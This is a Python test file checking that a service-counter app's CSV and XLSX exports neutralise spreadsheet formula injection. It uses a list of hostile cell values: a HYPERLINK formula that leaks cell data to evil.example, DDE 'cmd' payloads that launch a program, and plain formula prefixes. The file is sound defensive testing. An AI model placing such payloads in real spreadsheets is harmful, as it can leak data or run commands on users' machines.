"""The daily exports never carry a live spreadsheet formula: text cells that a spreadsheet would
read as a formula (leading `=`, `+`, `-`, `@`, tab, carriage return) are written with a leading
`'`, in the CSV and the XLSX alike; real numbers stay numbers. Checked by reading the written
files back with openpyxl and csv."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from counter_app.documents import exports
from tests.documents.test_daily_report_pdf import fake_figures

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def poisoned_snapshot() -> dict[str, Any]:
    snap = fake_figures(services=len(NASTY), officers=2, per_day=60).to_json()
    for row, text in zip(snap["by_service"], NASTY):
        row["name"] = row["name_en"] = text
        row["agency"] = "=AGENCY()"
    snap["by_agency"][0]["name"] = "@Instansi"
    snap["by_officer"][0]["name"] = "=Petugas"
    snap["by_counter"][0]["name"] = "+Loket"
    snap["longest_waits"][0]["name"] = snap["longest_waits"][0]["name_en"] = "-Layanan"
    snap["site"]["name"] = "=MPP"
    return snap


def test_neutralise_rules() -> None:
    for text in NASTY + ["=", "+", "-", "@"]:
        assert exports.neutralise(text) == "'" + text
    for safe in ["KTP", "Layanan 0", "", "'=already", " =space first", "–", "a=b"]:
        assert exports.neutralise(safe) == safe
    for number in [-5, -0.5, 0, 3, 2.5, None]:
        assert exports.neutralise(number) == number


def test_xlsx_has_no_formula_and_keeps_numbers() -> None:
    data = exports.xlsx_bytes(poisoned_snapshot(), "id")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (ws.title, cell.coordinate)
    for text in NASTY:  # XML reads a carriage return back as a line feed
        assert "'" + text.replace("\r", "\n") in texts, text
    assert "'=AGENCY()" in texts and "'@Instansi" in texts and "'=MPP" in texts
    assert any(t.startswith("'=Petugas") for t in texts) and "'+Loket" in texts
    assert "'-Layanan" in texts
    # the figures beside the text are still numbers
    sheet = wb.worksheets[1]
    assert sheet.cell(2, 5).data_type == "n" and isinstance(sheet.cell(2, 5).value, int)


def test_xlsx_negative_numbers_stay_numbers() -> None:
    snap = poisoned_snapshot()
    snap["by_service"][0]["target_minutes"] = -5
    wb = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(snap, "en")))
    sheet = wb.worksheets[1]
    header = [c.value for c in sheet[1]]
    col = header.index(exports.Column("target", "int").label("en")) + 1
    cell = sheet.cell(2, col)
    assert cell.value == -5 and cell.data_type == "n"


def test_csv_has_no_formula_and_keeps_numbers() -> None:
    snap = poisoned_snapshot()
    snap["by_service"][0]["target_minutes"] = -5
    rows = list(csv.DictReader(io.StringIO(exports.csv_bytes(snap).decode("utf-8"), newline="")))
    names = [r["name"] for r in rows[:-1]]
    assert names == ["'" + text for text in NASTY]
    assert all(r["agency"] == "'=AGENCY()" for r in rows[:-1])
    assert rows[0]["target_minutes"] == "-5"  # a real number: no quote
    assert rows[-1]["service"] == "TOTAL"
    for row in rows:
        for key, value in row.items():
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), (key, value)


@pytest.mark.parametrize("lang", ["id", "en"])
def test_ordinary_text_is_unchanged(lang: str) -> None:
    snap = fake_figures(services=3, officers=2, per_day=30).to_json()
    wb = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(snap, lang)))
    texts = {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }
    assert "Layanan 0" in texts and not any(t.startswith("'") for t in texts)
    rows = list(csv.DictReader(io.StringIO(exports.csv_bytes(snap).decode("utf-8"), newline="")))
    assert rows[0]["name"] == "Layanan 0"
